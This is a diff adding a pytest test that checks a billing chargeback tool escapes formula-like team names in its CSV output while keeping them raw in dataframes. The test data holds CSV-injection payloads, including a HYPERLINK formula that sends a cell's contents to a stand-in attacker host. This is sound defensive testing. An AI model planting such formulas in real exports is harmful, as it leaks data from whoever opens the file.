@@ -238,3 +238,26 @@ def test_money_is_exact_decimal(tmp_path):
     assert focus.BilledCost.sum() == Decimal("0.12")
     assert list(focus.ListUnitPrice) == [Decimal("0.01")] * 2
     assert focus.x_AllocatedFrom.isna().all()
+
+
+def test_formula_like_teams_are_raw_in_frames_and_neutralised_in_cli_csv(cli, root):
+    d = data(root)
+    usage, prices = d / "usage_hostile.csv", d / "list_prices.csv"
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    frame = dbcost.chargeback(usage, prices=prices)
+    focus = dbcost.chargeback(usage, prices=prices, focus=True)
+    for teams in (set(frame.team), set(focus.x_Team)):
+        assert {hyperlink, "@SUM(1+9)", "-2+3", "\t=1+2", "\x1b[31mred\x1b[0m", "line\nbreak"} <= teams
+    assert frame.set_index("team").total_cost["refunds"] == Decimal("-1.65")
+
+    def cli_teams(*extra):
+        out = subprocess.run([cli, "chargeback", "--usage", str(usage), "--prices", str(prices), *extra],
+                             capture_output=True, text=True, check=True).stdout
+        return pd.read_csv(io.StringIO(out), keep_default_na=False)
+
+    csv_out = cli_teams("--format", "csv")
+    assert {"'" + hyperlink, "'@SUM(1+9)", "'-2+3", "'\t=1+2"} <= set(csv_out.team)
+    assert csv_out.set_index("team").total_cost["refunds"] == pytest.approx(-1.65)  # still a number
+    assert set(cli_teams("--format", "focus").x_Team) == set(csv_out.team)
+    raw = cli_teams("--format", "csv", "--raw-csv")
+    assert set(raw.team) == set(frame.team)
